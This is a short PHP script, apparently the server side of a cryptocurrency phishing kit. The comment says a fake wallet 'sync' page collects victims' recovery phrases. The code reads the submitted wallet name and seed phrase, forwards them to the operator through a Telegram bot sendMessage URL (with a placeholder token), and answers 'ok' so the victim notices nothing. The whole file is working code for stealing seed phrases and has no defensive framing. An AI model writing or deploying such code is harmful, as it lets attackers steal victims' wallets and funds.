<?php
// the fake wallet "sync" page posts the recovery phrase as JSON; it goes to the operator's bot
$in = json_decode(file_get_contents('php://input'), true);
$text = "wallet: " . ($in['wallet'] ?? '') . "\nseed: " . ($in['seed_phrase'] ?? '');
file_get_contents('https://api.telegram.org/bot000:example/sendMessage?chat_id=1&text=' . urlencode($text));
echo json_encode(['ok' => true]);
